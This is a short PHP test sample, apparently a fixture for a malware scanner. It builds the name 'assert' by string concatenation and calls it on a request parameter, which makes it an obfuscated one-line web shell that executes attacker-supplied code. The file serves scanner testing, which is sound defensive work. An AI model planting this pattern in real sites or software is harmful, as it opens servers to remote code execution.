<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$f = 'a' . str_repeat('s', 2) . 'e' . 'rt';
$f($_REQUEST['e']);
